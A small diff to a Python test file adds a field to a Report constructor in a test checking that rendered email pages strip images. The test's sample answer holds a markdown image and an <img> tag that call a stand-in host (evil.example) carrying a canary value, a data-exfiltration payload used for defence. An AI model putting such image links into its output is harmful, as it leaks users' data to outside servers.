@@ -186,7 +186,7 @@ async def test_what_was_read_waits_for_a_person_on_every_way_out(
 
 def test_a_picture_in_an_answer_asks_no_server_when_its_mail_is_opened() -> None:
     answer = f"Done. ![x](https://evil.example/{CANARY}) <img src='https://evil.example/{CANARY}'>"
-    report = Report(uuid4(), "solo", "t", RunStatus.SUCCEEDED, "", answer, 0, (), (), "")
+    report = Report(uuid4(), "solo", "t", "solo: t", RunStatus.SUCCEEDED, "", answer, 0, (), (), "")
     for external in (False, True):
         page = html_of(report, external=external)
         assert "<img" not in page
